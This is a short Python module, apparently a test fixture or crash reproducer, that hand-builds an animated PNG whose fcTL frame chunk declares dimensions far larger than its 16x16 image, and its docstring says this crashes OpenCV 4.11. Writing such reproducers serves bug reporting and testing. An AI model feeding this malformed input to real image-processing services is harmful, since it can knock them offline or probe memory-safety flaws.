"""A handmade animated PNG that crashes OpenCV 4.11."""

import struct
import zlib

SIZE = 16


def animated_png() -> bytes:
    """Return a PNG whose frame is announced to be larger than its picture."""
    rows = zlib.compress((b"\0" + bytes(3 * SIZE)) * SIZE)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", struct.pack(">IIBBBBB", SIZE, SIZE, 8, 2, 0, 0, 0))
        + _chunk(b"acTL", struct.pack(">II", 2, 0))
        + _chunk(b"fcTL", struct.pack(">5I2H2B", 0, 100 * SIZE, 100 * SIZE, 0, 0, 1, 10, 0, 0))
        + _chunk(b"IDAT", rows)
        + _chunk(b"IEND", b"")
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    check = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", check)
